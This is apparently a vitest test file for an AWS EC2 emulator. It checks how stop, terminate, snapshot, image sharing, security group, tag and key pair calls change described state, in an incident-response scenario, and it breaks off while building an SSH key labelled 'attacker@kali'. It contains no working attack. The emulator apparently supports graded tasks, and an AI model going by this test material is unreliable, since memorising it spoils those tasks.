/** EC2's write side through SDK v3: each mutating call, what a later describe sees, and that a failing call changes nothing. */

import { createHash, createPrivateKey, createPublicKey, generateKeyPairSync } from "node:crypto";
import {
  AssociateIamInstanceProfileCommand,
  AuthorizeSecurityGroupEgressCommand,
  AuthorizeSecurityGroupIngressCommand,
  CreateImageCommand,
  CreateKeyPairCommand,
  CreateSecurityGroupCommand,
  CreateSnapshotCommand,
  CreateSnapshotsCommand,
  CreateTagsCommand,
  DeleteKeyPairCommand,
  DeleteSecurityGroupCommand,
  DeleteTagsCommand,
  DescribeIamInstanceProfileAssociationsCommand,
  DescribeImageAttributeCommand,
  DescribeImagesCommand,
  DescribeInstanceAttributeCommand,
  DescribeInstancesCommand,
  DescribeKeyPairsCommand,
  DescribeNetworkInterfacesCommand,
  DescribeSecurityGroupRulesCommand,
  DescribeSecurityGroupsCommand,
  DescribeSnapshotAttributeCommand,
  DescribeSnapshotsCommand,
  DescribeTagsCommand,
  DescribeVolumesCommand,
  DisassociateIamInstanceProfileCommand,
  EC2Client,
  ImportKeyPairCommand,
  type Instance,
  ModifyImageAttributeCommand,
  ModifyInstanceAttributeCommand,
  ModifyInstanceMetadataOptionsCommand,
  ModifyNetworkInterfaceAttributeCommand,
  ModifySnapshotAttributeCommand,
  ReplaceIamInstanceProfileAssociationCommand,
  RevokeSecurityGroupEgressCommand,
  RevokeSecurityGroupIngressCommand,
  RunInstancesCommand,
  StartInstancesCommand,
  StopInstancesCommand,
  TerminateInstancesCommand,
} from "@aws-sdk/client-ec2";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { TRANSITION_MS } from "../../emulator/services/ec2/lifecycle.ts";
import { ec2StateOf } from "../../emulator/services/ec2/state.ts";
import { iamStateOf } from "../../emulator/services/iam/state.ts";
import { startTestServer, type TestServer } from "../helpers/emulator.ts";
import { sdkFailure } from "../helpers/failure.ts";

const WEB = "i-0a1b2c3d4e5f60001";
const WEB_SG = "sg-0a1b2c3d4e5f60001";
const ENI = "eni-0a1b2c3d4e5f60001";
const ROOT = "vol-0a1b2c3d4e5f60001";
const DATA = "vol-0a1b2c3d4e5f60002";
const VPC = "vpc-0a1b2c3d4e5f60001";

let server: TestServer;
let ec2: EC2Client;
beforeEach(async () => {
  server = await startTestServer({ scenario: "basic", clock: "2026-02-01T12:00:00Z" });
  ec2 = new EC2Client(server.sdk());
});
afterEach(async () => {
  await server?.stop();
});

const failure = sdkFailure;

async function instance(id = WEB): Promise<Instance> {
  const out = await ec2.send(new DescribeInstancesCommand({ InstanceIds: [id] }));
  return out.Reservations?.[0]?.Instances?.[0] as Instance;
}

/** Emulator time moves past a state transition (stopping → stopped, pending → completed, …) without waiting for it. */
const settle = () => server.emulator.runtime.clock.advance(TRANSITION_MS);

describe("instance lifecycle", () => {
  it("stop → stopping → stopped, then start → pending → running; modify type and user data only while stopped", async () => {
    expect(await failure(ec2.send(new ModifyInstanceAttributeCommand({ InstanceId: WEB, InstanceType: { Value: "t3.large" } })))).toMatchObject({
      name: "IncorrectInstanceState",
      message: `The instance '${WEB}' is not in the 'stopped' state.`,
    });
    const stop = await ec2.send(new StopInstancesCommand({ InstanceIds: [WEB] }));
    expect(stop.StoppingInstances).toEqual([{ InstanceId: WEB, PreviousState: { Code: 16, Name: "running" }, CurrentState: { Code: 64, Name: "stopping" } }]);
    expect((await instance()).State?.Name).toBe("stopping");
    settle();
    const stopped = await instance();
    expect(stopped.State).toEqual({ Code: 80, Name: "stopped" });
    expect(stopped.StateReason?.Code).toBe("Client.UserInitiatedShutdown");
    expect(stopped.StateTransitionReason).toMatch(/^User initiated \(2026-02-01 \d\d:\d\d:\d\d GMT\)$/);
    // The auto-assigned public address went with the stop, on the instance and on its interface.
    expect(stopped.PublicIpAddress).toBeUndefined();
    expect((await ec2.send(new DescribeNetworkInterfacesCommand({ NetworkInterfaceIds: [ENI] }))).NetworkInterfaces?.[0]?.Association).toBeUndefined();

    await ec2.send(new ModifyInstanceAttributeCommand({ InstanceId: WEB, InstanceType: { Value: "t3.large" } }));
    await ec2.send(new ModifyInstanceAttributeCommand({ InstanceId: WEB, UserData: { Value: new TextEncoder().encode("#!/bin/sh\necho contained\n") } }));
    const ud = await ec2.send(new DescribeInstanceAttributeCommand({ InstanceId: WEB, Attribute: "userData" }));
    expect(Buffer.from(ud.UserData?.Value ?? "", "base64").toString()).toBe("#!/bin/sh\necho contained\n");
    expect((await instance()).InstanceType).toBe("t3.large");

    const start = await ec2.send(new StartInstancesCommand({ InstanceIds: [WEB] }));
    expect(start.StartingInstances?.[0]).toMatchObject({ PreviousState: { Name: "stopped" }, CurrentState: { Code: 0, Name: "pending" } });
    settle();
    const running = await instance();
    expect(running.State?.Name).toBe("running");
    expect(running.PublicIpAddress).toMatch(/^203\.0\.113\.\d+$/);
    expect((await ec2.send(new DescribeNetworkInterfacesCommand({ NetworkInterfaceIds: [ENI] }))).NetworkInterfaces?.[0]?.Association?.PublicIp).toBe(
      running.PublicIpAddress,
    );
  });

  it("terminate: OperationNotPermitted under DisableApiTermination, then shutting-down → terminated, volumes released", async () => {
    await ec2.send(new ModifyInstanceAttributeCommand({ InstanceId: WEB, DisableApiTermination: { Value: true } }));
    expect(await failure(ec2.send(new TerminateInstancesCommand({ InstanceIds: [WEB] })))).toMatchObject({ name: "OperationNotPermitted" });
    expect((await instance()).State?.Name).toBe("running");
    await ec2.send(new ModifyInstanceAttributeCommand({ InstanceId: WEB, Attribute: "disableApiTermination", Value: "false" }));

    expect(await failure(ec2.send(new TerminateInstancesCommand({ InstanceIds: [WEB], DryRun: true })))).toMatchObject({
      name: "DryRunOperation",
      status: 412,
    });
    expect((await instance()).State?.Name).toBe("running");

    const out = await ec2.send(new TerminateInstancesCommand({ InstanceIds: [WEB] }));
    expect(out.TerminatingInstances?.[0]).toMatchObject({ PreviousState: { Name: "running" }, CurrentState: { Code: 32, Name: "shutting-down" } });
    expect((await instance()).State?.Name).toBe("shutting-down");
    expect(
      (await ec2.send(new DescribeIamInstanceProfileAssociationsCommand({ Filters: [{ Name: "instance-id", Values: [WEB] }] }))).IamInstanceProfileAssociations,
    ).toEqual([]);
    // The root volume is delete-on-termination; the data volume survives, detached.
    const vols = await ec2.send(new DescribeVolumesCommand({}));
    expect(vols.Volumes?.map((v) => [v.VolumeId, v.State, v.Attachments?.length])).toEqual([[DATA, "available", 0]]);
    settle();
    const gone = await instance();
    expect(gone.State).toEqual({ Code: 48, Name: "terminated" });
    expect(gone.BlockDeviceMappings).toEqual([]);
    expect(
      (await ec2.send(new DescribeIamInstanceProfileAssociationsCommand({ Filters: [{ Name: "instance-id", Values: [WEB] }] }))).IamInstanceProfileAssociations,
    ).toEqual([]);

    expect(await failure(ec2.send(new StartInstancesCommand({ InstanceIds: [WEB] })))).toMatchObject({
      name: "IncorrectInstanceState",
      message: `The instance '${WEB}' is not in a state from which it can be started.`,
    });
    expect((await failure(ec2.send(new StopInstancesCommand({ InstanceIds: [WEB] })))).name).toBe("IncorrectInstanceState");
    const again = await ec2.send(new TerminateInstancesCommand({ InstanceIds: [WEB] }));
    expect(again.TerminatingInstances?.[0]?.CurrentState?.Name).toBe("terminated");

    // An hour after termination the instance drops out of describes, as in EC2.
    const runtime = server.emulator.runtime;
    const stored = ec2StateOf(runtime, server.accountId, server.region).instances[WEB];
    stored.TerminatedAt = new Date(runtime.clock.now().getTime() - 61 * 60_000).toISOString();
    await runtime.store.commit();
    expect((await ec2.send(new DescribeInstancesCommand({}))).Reservations).toEqual([]);
    expect((await failure(ec2.send(new DescribeInstancesCommand({ InstanceIds: [WEB] })))).name).toBe("InvalidInstanceID.NotFound");
  });

  it("refuses unknown instances without touching the known ones in the same call", async () => {
    expect(await failure(ec2.send(new StopInstancesCommand({ InstanceIds: [WEB, "i-0000000000000000f"] })))).toMatchObject({
      name: "InvalidInstanceID.NotFound",
      message: "The instance ID 'i-0000000000000000f' does not exist",
    });
    expect((await instance()).State?.Name).toBe("running");
    expect((await failure(ec2.send(new TerminateInstancesCommand({ InstanceIds: ["i-xyz"] })))).name).toBe("InvalidInstanceID.Malformed");
  });

  it("modify-instance-metadata-options requires IMDSv2", async () => {
    const out = await ec2.send(new ModifyInstanceMetadataOptionsCommand({ InstanceId: WEB, HttpTokens: "required", HttpPutResponseHopLimit: 2 }));
    expect(out).toMatchObject({ InstanceId: WEB, InstanceMetadataOptions: { HttpTokens: "required", HttpPutResponseHopLimit: 2, State: "pending" } });
    expect((await instance()).MetadataOptions).toMatchObject({ HttpTokens: "required", HttpPutResponseHopLimit: 2, HttpEndpoint: "enabled", State: "applied" });
    const filtered = await ec2.send(new DescribeInstancesCommand({ Filters: [{ Name: "metadata-options.http-tokens", Values: ["optional"] }] }));
    expect(filtered.Reservations).toEqual([]);
    expect((await failure(ec2.send(new ModifyInstanceMetadataOptionsCommand({ InstanceId: WEB, HttpTokens: "always" as "required" })))).name).toBe(
      "InvalidParameterValue",
    );
    expect((await failure(ec2.send(new ModifyInstanceMetadataOptionsCommand({ InstanceId: WEB, HttpPutResponseHopLimit: 65 })))).name).toBe(
      "InvalidParameterValue",
    );
    expect((await instance()).MetadataOptions?.HttpPutResponseHopLimit).toBe(2);
  });

  it("modify --groups moves the instance and its primary interface together; an unknown group changes nothing", async () => {
    const { GroupId: quarantine } = await ec2.send(new CreateSecurityGroupCommand({ GroupName: "quarantine", Description: "isolation", VpcId: VPC }));
    expect(await failure(ec2.send(new ModifyInstanceAttributeCommand({ InstanceId: WEB, Groups: [quarantine!, "sg-0000000000000000f"] })))).toMatchObject({
      name: "InvalidGroup.NotFound",
    });
    expect((await instance()).SecurityGroups?.map((g) => g.GroupId)).toEqual([WEB_SG]);

    await ec2.send(new ModifyInstanceAttributeCommand({ InstanceId: WEB, Groups: [quarantine!] }));
    const inst = await instance();
    expect(inst.SecurityGroups).toEqual([{ GroupId: quarantine, GroupName: "quarantine" }]);
    expect(inst.NetworkInterfaces?.[0]?.Groups).toEqual([{ GroupId: quarantine, GroupName: "quarantine" }]);
    const eni = await ec2.send(new DescribeNetworkInterfacesCommand({ NetworkInterfaceIds: [ENI] }));
    expect(eni.NetworkInterfaces?.[0]?.Groups).toEqual([{ GroupId: quarantine, GroupName: "quarantine" }]);
    const attr = await ec2.send(new DescribeInstanceAttributeCommand({ InstanceId: WEB, Attribute: "groupSet" }));
    expect(attr.Groups?.map((g) => g.GroupId)).toEqual([quarantine]);
    // Nothing uses the web group any more, so it can go.
    await ec2.send(new DeleteSecurityGroupCommand({ GroupId: WEB_SG }));
    expect((await failure(ec2.send(new DescribeSecurityGroupsCommand({ GroupIds: [WEB_SG] })))).name).toBe("InvalidGroup.NotFound");
  });

  it("modify-network-interface-attribute changes the instance's groups through its primary interface", async () => {
    await ec2.send(new ModifyNetworkInterfaceAttributeCommand({ NetworkInterfaceId: ENI, Groups: ["sg-0a1b2c3d4e5f60002"] }));
    expect((await instance()).SecurityGroups).toEqual([{ GroupId: "sg-0a1b2c3d4e5f60002", GroupName: "default" }]);
    await ec2.send(new ModifyNetworkInterfaceAttributeCommand({ NetworkInterfaceId: ENI, SourceDestCheck: { Value: false } }));
    expect((await instance()).SourceDestCheck).toBe(false);
    expect((await failure(ec2.send(new ModifyNetworkInterfaceAttributeCommand({ NetworkInterfaceId: "eni-0000000000000000f", Groups: [WEB_SG] })))).name).toBe(
      "InvalidNetworkInterfaceID.NotFound",
    );
  });

  it("keeps the data volume when its delete-on-termination is turned off first", async () => {
    await ec2.send(
      new ModifyInstanceAttributeCommand({ InstanceId: WEB, BlockDeviceMappings: [{ DeviceName: "/dev/xvda", Ebs: { DeleteOnTermination: false } }] }),
    );
    await ec2.send(new TerminateInstancesCommand({ InstanceIds: [WEB] }));
    const vols = await ec2.send(new DescribeVolumesCommand({}));
    expect(vols.Volumes?.map((v) => [v.VolumeId, v.State]).sort()).toEqual([
      [ROOT, "available"],
      [DATA, "available"],
    ]);
  });
});

describe("snapshots and images", () => {
  it("create-snapshot is pending, then completed; an unknown volume changes nothing", async () => {
    const snap = await ec2.send(
      new CreateSnapshotCommand({
        VolumeId: DATA,
        Description: "IR evidence",
        TagSpecifications: [{ ResourceType: "snapshot", Tags: [{ Key: "case", Value: "IR-1" }] }],
      }),
    );
    expect(snap).toMatchObject({
      VolumeId: DATA,
      State: "pending",
      OwnerId: "123456789012",
      VolumeSize: 100,
      Description: "IR evidence",
      Tags: [{ Key: "case", Value: "IR-1" }],
    });
    expect(snap.SnapshotId).toMatch(/^snap-0[0-9a-f]{16}$/);
    expect(snap.StartTime?.getTime()).toBeGreaterThanOrEqual(Date.parse("2026-02-01T12:00:00Z"));
    settle();
    const after = await ec2.send(new DescribeSnapshotsCommand({ SnapshotIds: [snap.SnapshotId!] }));
    expect(after.Snapshots?.[0]).toMatchObject({ State: "completed", Progress: "100%" });

    expect(await failure(ec2.send(new CreateSnapshotCommand({ VolumeId: "vol-0000000000000000f" })))).toMatchObject({
      name: "InvalidVolume.NotFound",
      message: "The volume 'vol-0000000000000000f' does not exist",
    });
    expect((await ec2.send(new DescribeSnapshotsCommand({ OwnerIds: ["self"] }))).Snapshots).toHaveLength(3);
  });

  it("create-snapshots takes every volume of an instance, or all but the boot volume", async () => {
    const all = await ec2.send(new CreateSnapshotsCommand({ InstanceSpecification: { InstanceId: WEB }, Description: "IR", CopyTagsFromSource: "volume" }));
    expect(all.Snapshots?.map((s) => s.VolumeId)).toEqual([ROOT, DATA]);
    expect(all.Snapshots?.[1]?.Tags).toEqual([{ Key: "Name", Value: "web-1-data" }]);
    const data = await ec2.send(new CreateSnapshotsCommand({ InstanceSpecification: { InstanceId: WEB, ExcludeBootVolume: true } }));
    expect(data.Snapshots?.map((s) => s.VolumeId)).toEqual([DATA]);
  });

  it("create-image registers an AMI backed by new snapshots of the instance's volumes", async () => {
    const { ImageId } = await ec2.send(new CreateImageCommand({ InstanceId: WEB, Name: "web-1-forensic", Description: "IR copy", NoReboot: true }));
    expect(ImageId).toMatch(/^ami-0[0-9a-f]{16}$/);
    const img = (await ec2.send(new DescribeImagesCommand({ Owners: ["self"], Filters: [{ Name: "name", Values: ["web-1-forensic"] }] }))).Images?.[0];
    expect(img).toMatchObject({ ImageId, State: "pending", SourceInstanceId: WEB, OwnerId: "123456789012", RootDeviceName: "/dev/xvda", Public: false });
    const snapIds = img?.BlockDeviceMappings?.map((b) => b.Ebs?.SnapshotId) ?? [];
    expect(img?.BlockDeviceMappings?.map((b) => [b.DeviceName, b.Ebs?.VolumeSize])).toEqual([
      ["/dev/xvda", 8],
      ["/dev/sdf", 100],
    ]);
    const snaps = await ec2.send(new DescribeSnapshotsCommand({ SnapshotIds: snapIds as string[] }));
    expect(snaps.Snapshots?.map((s) => s.Description)).toEqual([
      `Created by CreateImage(${WEB}) for ${ImageId}`,
      `Created by CreateImage(${WEB}) for ${ImageId}`,
    ]);
    settle();
    expect((await ec2.send(new DescribeImagesCommand({ ImageIds: [ImageId!] }))).Images?.[0]?.State).toBe("available");

    // A clashing name fails before any snapshot is taken.
    expect(await failure(ec2.send(new CreateImageCommand({ InstanceId: WEB, Name: "web-1-forensic" })))).toMatchObject({
      name: "InvalidAMIName.Duplicate",
      message: `AMI name web-1-forensic is already in use by AMI ${ImageId}`,
    });
    expect((await ec2.send(new DescribeSnapshotsCommand({ OwnerIds: ["self"] }))).Snapshots).toHaveLength(4);
    expect((await failure(ec2.send(new CreateImageCommand({ InstanceId: "i-0000000000000000f", Name: "x-copy" })))).name).toBe("InvalidInstanceID.NotFound");
  });
});

describe("snapshot and image sharing", () => {
  it("shares a snapshot with another account and stops sharing it", async () => {
    const SNAP = "snap-0a1b2c3d4e5f60001";
    const perms = async () =>
      (await ec2.send(new DescribeSnapshotAttributeCommand({ SnapshotId: SNAP, Attribute: "createVolumePermission" }))).CreateVolumePermissions;
    expect(await perms()).toEqual([]);
    await ec2.send(
      new ModifySnapshotAttributeCommand({ SnapshotId: SNAP, Attribute: "createVolumePermission", OperationType: "add", UserIds: ["444455556666"] }),
    );
    expect(await perms()).toEqual([{ UserId: "444455556666" }]);
    const shared = await ec2.send(new DescribeSnapshotsCommand({ RestorableByUserIds: ["444455556666"] }));
    expect(shared.Snapshots?.map((s) => s.SnapshotId)).toEqual([SNAP]);
    expect(
      (await failure(ec2.send(new ModifySnapshotAttributeCommand({ SnapshotId: SNAP, CreateVolumePermission: { Add: [{ UserId: "evil" }] } })))).name,
    ).toBe("InvalidUserID.Malformed");
    await ec2.send(new ModifySnapshotAttributeCommand({ SnapshotId: SNAP, CreateVolumePermission: { Remove: [{ UserId: "444455556666" }] } }));
    expect(await perms()).toEqual([]);
    expect(
      (await failure(ec2.send(new ModifySnapshotAttributeCommand({ SnapshotId: "snap-0a1b2c3d4e5f60002", OperationType: "add", GroupNames: ["all"] })))).name,
    ).toBe("AuthFailure");
  });

  it("makes an AMI public through its launch permission", async () => {
    const AMI = "ami-0a1b2c3d4e5f60001";
    const amazon = await ec2.send(new DescribeImageAttributeCommand({ ImageId: "ami-0b5c74e235ed808b9", Attribute: "launchPermission" }));
    expect(amazon.LaunchPermissions).toEqual([{ Group: "all" }]);
    await ec2.send(new ModifyImageAttributeCommand({ ImageId: AMI, LaunchPermission: { Add: [{ Group: "all" }] } }));
    expect((await ec2.send(new DescribeImagesCommand({ ImageIds: [AMI] }))).Images?.[0]?.Public).toBe(true);
    expect((await ec2.send(new DescribeImagesCommand({ Owners: ["self"], Filters: [{ Name: "is-public", Values: ["true"] }] }))).Images).toHaveLength(1);
    await ec2.send(new ModifyImageAttributeCommand({ ImageId: AMI, Attribute: "launchPermission", OperationType: "remove", UserGroups: ["all"] }));
    expect((await ec2.send(new DescribeImageAttributeCommand({ ImageId: AMI, Attribute: "launchPermission" }))).LaunchPermissions).toEqual([]);
    expect((await ec2.send(new DescribeImagesCommand({ ImageIds: [AMI] }))).Images?.[0]?.Public).toBe(false);
    const desc = await ec2.send(new DescribeImageAttributeCommand({ ImageId: AMI, Attribute: "description" }));
    expect(desc.Description?.Value).toBe("Golden image for web servers");
  });
});

describe("security groups", () => {
  it("authorize and revoke keep IpPermissions and the rules in step", async () => {
    const { GroupId } = await ec2.send(new CreateSecurityGroupCommand({ GroupName: "ir-forensics", Description: "forensics access", VpcId: VPC }));
    expect(GroupId).toMatch(/^sg-0[0-9a-f]{16}$/);
    const created = (await ec2.send(new DescribeSecurityGroupsCommand({ GroupIds: [GroupId!] }))).SecurityGroups?.[0];
    expect(created?.IpPermissions).toEqual([]);
    expect(created?.IpPermissionsEgress?.[0]).toMatchObject({ IpProtocol: "-1", IpRanges: [{ CidrIp: "0.0.0.0/0" }] });

    const auth = await ec2.send(
      new AuthorizeSecurityGroupIngressCommand({
        GroupId,
        IpPermissions: [
          { IpProtocol: "tcp", FromPort: 22, ToPort: 22, IpRanges: [{ CidrIp: "203.0.113.0/24", Description: "IR team" }, { CidrIp: "192.0.2.10/32" }] },
        ],
      }),
    );
    expect(auth.Return).toBe(true);
    expect(auth.SecurityGroupRules?.map((r) => [r.CidrIpv4, r.FromPort, r.IsEgress])).toEqual([
      ["203.0.113.0/24", 22, false],
      ["192.0.2.10/32", 22, false],
    ]);
    const g = (await ec2.send(new DescribeSecurityGroupsCommand({ GroupIds: [GroupId!] }))).SecurityGroups?.[0];
    expect(g?.IpPermissions).toEqual([
      {
        IpProtocol: "tcp",
        FromPort: 22,
        ToPort: 22,
        IpRanges: [{ CidrIp: "203.0.113.0/24", Description: "IR team" }, { CidrIp: "192.0.2.10/32" }],
        Ipv6Ranges: [],
        PrefixListIds: [],
        UserIdGroupPairs: [],
      },
    ]);

    // One new rule and one duplicate: EC2 refuses the call as a whole.
    expect(
      await failure(
        ec2.send(
          new AuthorizeSecurityGroupIngressCommand({
            GroupId,
            IpPermissions: [
              { IpProtocol: "tcp", FromPort: 443, ToPort: 443, IpRanges: [{ CidrIp: "0.0.0.0/0" }] },
              { IpProtocol: "tcp", FromPort: 22, ToPort: 22, IpRanges: [{ CidrIp: "203.0.113.0/24" }] },
            ],
          }),
        ),
      ),
    ).toMatchObject({
      name: "InvalidPermission.Duplicate",
      message: 'the specified rule "peer: 203.0.113.0/24, TCP, from port: 22, to port: 22, ALLOW" already exists',
    });
    const rules = await ec2.send(new DescribeSecurityGroupRulesCommand({ Filters: [{ Name: "group-id", Values: [GroupId!] }] }));
    expect(rules.SecurityGroupRules).toHaveLength(3);

    await ec2.send(
      new RevokeSecurityGroupIngressCommand({
        GroupId,
        IpPermissions: [{ IpProtocol: "tcp", FromPort: 22, ToPort: 22, IpRanges: [{ CidrIp: "192.0.2.10/32" }] }],
      }),
    );
    const revoked = (await ec2.send(new DescribeSecurityGroupsCommand({ GroupIds: [GroupId!] }))).SecurityGroups?.[0];
    expect(revoked?.IpPermissions?.[0]?.IpRanges).toEqual([{ CidrIp: "203.0.113.0/24", Description: "IR team" }]);
    expect(
      await failure(
        ec2.send(
          new RevokeSecurityGroupIngressCommand({
            GroupId,
            IpPermissions: [{ IpProtocol: "tcp", FromPort: 22, ToPort: 22, IpRanges: [{ CidrIp: "192.0.2.10/32" }] }],
          }),
        ),
      ),
    ).toMatchObject({ name: "InvalidPermission.NotFound" });

    // Egress: drop allow-all by rule id, allow HTTPS out only.
    const egressId = (await ec2.send(new DescribeSecurityGroupRulesCommand({ Filters: [{ Name: "group-id", Values: [GroupId!] }] }))).SecurityGroupRules?.find(
      (r) => r.IsEgress,
    )?.SecurityGroupRuleId;
    await ec2.send(new RevokeSecurityGroupEgressCommand({ GroupId, SecurityGroupRuleIds: [egressId!] }));
    await ec2.send(
      new AuthorizeSecurityGroupEgressCommand({
        GroupId,
        IpPermissions: [{ IpProtocol: "tcp", FromPort: 443, ToPort: 443, IpRanges: [{ CidrIp: "0.0.0.0/0" }] }],
      }),
    );
    const egress = (await ec2.send(new DescribeSecurityGroupsCommand({ GroupIds: [GroupId!] }))).SecurityGroups?.[0]?.IpPermissionsEgress;
    expect(egress?.map((p) => [p.IpProtocol, p.FromPort, p.IpRanges?.[0]?.CidrIp])).toEqual([["tcp", 443, "0.0.0.0/0"]]);

    await ec2.send(new DeleteSecurityGroupCommand({ GroupId }));
    expect((await failure(ec2.send(new DescribeSecurityGroupsCommand({ GroupIds: [GroupId!] })))).name).toBe("InvalidGroup.NotFound");
    expect((await ec2.send(new DescribeSecurityGroupRulesCommand({ Filters: [{ Name: "group-id", Values: [GroupId!] }] }))).SecurityGroupRules).toEqual([]);
  });

  it("revoking the open SSH rule of a recorded group closes it", async () => {
    await ec2.send(
      new RevokeSecurityGroupIngressCommand({
        GroupId: "sg-0a1b2c3d4e5f60003",
        IpPermissions: [{ IpProtocol: "tcp", FromPort: 22, ToPort: 22, IpRanges: [{ CidrIp: "0.0.0.0/0" }] }],
      }),
    );
    const open = await ec2.send(new DescribeSecurityGroupsCommand({ Filters: [{ Name: "ip-permission.cidr", Values: ["0.0.0.0/0"] }] }));
    expect(open.SecurityGroups?.map((g) => g.GroupName)).toEqual(["web"]);
  });

  it("reads a recorded group that only has IpPermissions as rules, and keeps the stored permissions in step after a change", async () => {
    // A recording may write IpPermissions without rule records; the rules are derived with stable ids.
    const runtime = server.emulator.runtime;
    const state = ec2StateOf(runtime, server.accountId, server.region);
    state.securityGroups["sg-0a1b2c3d4e5f6000a"] = {
      GroupId: "sg-0a1b2c3d4e5f6000a",
      GroupName: "rdp",
      Description: "legacy",
      VpcId: VPC,
      OwnerId: server.accountId,
      IpPermissions: [{ IpProtocol: "tcp", FromPort: 3389, ToPort: 3389, IpRanges: [{ CidrIp: "0.0.0.0/0" }, { CidrIp: "198.51.100.0/24" }] }],
      IpPermissionsEgress: [],
    };
    await runtime.store.commit();
    const rulesOf = async () =>
      (await ec2.send(new DescribeSecurityGroupRulesCommand({ Filters: [{ Name: "group-id", Values: ["sg-0a1b2c3d4e5f6000a"] }] }))).SecurityGroupRules ?? [];
    const first = await rulesOf();
    expect(first.map((r) => [r.CidrIpv4, r.FromPort])).toEqual([
      ["0.0.0.0/0", 3389],
      ["198.51.100.0/24", 3389],
    ]);
    expect((await rulesOf()).map((r) => r.SecurityGroupRuleId)).toEqual(first.map((r) => r.SecurityGroupRuleId));

    await ec2.send(new RevokeSecurityGroupIngressCommand({ GroupId: "sg-0a1b2c3d4e5f6000a", SecurityGroupRuleIds: [first[0].SecurityGroupRuleId!] }));
    expect((await rulesOf()).map((r) => r.SecurityGroupRuleId)).toEqual([first[1].SecurityGroupRuleId]);
    // Readers of the raw state (grading) see the same permissions as DescribeSecurityGroups.
    const stored = ec2StateOf(runtime, server.accountId, server.region).securityGroups["sg-0a1b2c3d4e5f6000a"];
    expect(stored.IpPermissions?.map((p) => p.IpRanges?.map((r) => r.CidrIp))).toEqual([["198.51.100.0/24"]]);
  });

  it("refuses to delete the default group, groups in use and referenced groups", async () => {
    expect(await failure(ec2.send(new DeleteSecurityGroupCommand({ GroupId: "sg-0a1b2c3d4e5f60002" })))).toMatchObject({ name: "CannotDelete" });
    expect(await failure(ec2.send(new DeleteSecurityGroupCommand({ GroupId: WEB_SG })))).toMatchObject({
      name: "DependencyViolation",
      message: `resource ${WEB_SG} has a dependent object`,
    });
    // The web group's SSH rule refers to the bastion group.
    expect((await failure(ec2.send(new DeleteSecurityGroupCommand({ GroupId: "sg-0a1b2c3d4e5f60003" })))).name).toBe("DependencyViolation");
    expect((await ec2.send(new DescribeSecurityGroupsCommand({}))).SecurityGroups).toHaveLength(3);
    expect(await failure(ec2.send(new CreateSecurityGroupCommand({ GroupName: "web", Description: "again", VpcId: VPC })))).toMatchObject({
      name: "InvalidGroup.Duplicate",
      message: `The security group 'web' already exists for VPC '${VPC}'`,
    });
    expect((await failure(ec2.send(new DeleteSecurityGroupCommand({ GroupId: "sg-0000000000000000f" })))).name).toBe("InvalidGroup.NotFound");
  });
});

describe("tags and key pairs", () => {
  it("tags any resource type; an unknown id in the list tags nothing", async () => {
    const resources = [WEB, WEB_SG, DATA, "snap-0a1b2c3d4e5f60001", "ami-0a1b2c3d4e5f60001", ENI, VPC, "key-0a1b2c3d4e5f60001"];
    await ec2.send(new CreateTagsCommand({ Resources: resources, Tags: [{ Key: "ir-case", Value: "IR-1" }] }));
    const tagged = await ec2.send(new DescribeTagsCommand({ Filters: [{ Name: "key", Values: ["ir-case"] }] }));
    expect(tagged.Tags?.map((t) => t.ResourceId).sort()).toEqual([...resources].sort());
    expect((await instance()).Tags).toContainEqual({ Key: "ir-case", Value: "IR-1" });
    expect((await ec2.send(new DescribeNetworkInterfacesCommand({ NetworkInterfaceIds: [ENI] }))).NetworkInterfaces?.[0]?.TagSet).toEqual([
      { Key: "ir-case", Value: "IR-1" },
    ]);

    expect(await failure(ec2.send(new CreateTagsCommand({ Resources: [DATA, "vol-0000000000000000f"], Tags: [{ Key: "x", Value: "y" }] })))).toMatchObject({
      name: "InvalidVolume.NotFound",
    });
    expect((await ec2.send(new DescribeTagsCommand({ Filters: [{ Name: "key", Values: ["x"] }] }))).Tags).toEqual([]);
    expect((await failure(ec2.send(new CreateTagsCommand({ Resources: [WEB], Tags: [{ Key: "aws:owner", Value: "me" }] })))).name).toBe(
      "InvalidParameterValue",
    );
    expect((await failure(ec2.send(new CreateTagsCommand({ Resources: ["nat-0123"], Tags: [{ Key: "a", Value: "b" }] })))).name).toBe("InvalidID");

    // A value that does not match leaves the tag; no value removes it whatever it is.
    await ec2.send(new DeleteTagsCommand({ Resources: [WEB], Tags: [{ Key: "ir-case", Value: "IR-2" }] }));
    expect((await instance()).Tags).toContainEqual({ Key: "ir-case", Value: "IR-1" });
    await ec2.send(new DeleteTagsCommand({ Resources: [WEB], Tags: [{ Key: "ir-case" }] }));
    expect((await instance()).Tags).toEqual([{ Key: "Name", Value: "web-1" }]);
  });

  it("creates an RSA key pair whose private key matches the stored public key", async () => {
    const out = await ec2.send(
      new CreateKeyPairCommand({ KeyName: "ir-access", TagSpecifications: [{ ResourceType: "key-pair", Tags: [{ Key: "case", Value: "IR-1" }] }] }),
    );
    expect(out.KeyPairId).toMatch(/^key-0[0-9a-f]{16}$/);
    expect(out.KeyMaterial).toMatch(/^-----BEGIN RSA PRIVATE KEY-----\n/);
    expect(out.KeyFingerprint).toMatch(/^([0-9a-f]{2}:){19}[0-9a-f]{2}$/);
    const priv = createPrivateKey(out.KeyMaterial!);
    expect(out.KeyFingerprint?.replace(/:/g, "")).toBe(
      createHash("sha1")
        .update(priv.export({ type: "pkcs8", format: "der" }))
        .digest("hex"),
    );
    const listed = await ec2.send(new DescribeKeyPairsCommand({ KeyNames: ["ir-access"], IncludePublicKey: true }));
    expect(listed.KeyPairs?.[0]).toMatchObject({ KeyPairId: out.KeyPairId, KeyType: "rsa", Tags: [{ Key: "case", Value: "IR-1" }] });
    // The OpenSSH public key carries the same modulus as the private key handed out.
    const modulus = Buffer.from(createPublicKey(priv).export({ format: "jwk" }).n ?? "", "base64url").toString("hex");
    expect(Buffer.from(listed.KeyPairs?.[0]?.PublicKey?.split(" ")[1] ?? "", "base64").toString("hex")).toContain(modulus);
    expect(await failure(ec2.send(new CreateKeyPairCommand({ KeyName: "ir-access" })))).toMatchObject({
      name: "InvalidKeyPair.Duplicate",
      message: "The keypair 'ir-access' already exists.",
    });
  });

  it("imports an OpenSSH public key that RunInstances can then use", async () => {
    const jwk = generateKeyPairSync("ed25519").publicKey.export({ format: "jwk" });
    const str = (b: Buffer) => Buffer.concat([Buffer.from([0, 0, 0, b.length]), b]);
    const blob = Buffer.concat([str(Buffer.from("ssh-ed25519")), str(Buffer.from(jwk.x ?? "", "base64url"))]);
    const line = `ssh-ed25519 ${blob.toString("base64")} attacker@kali`;
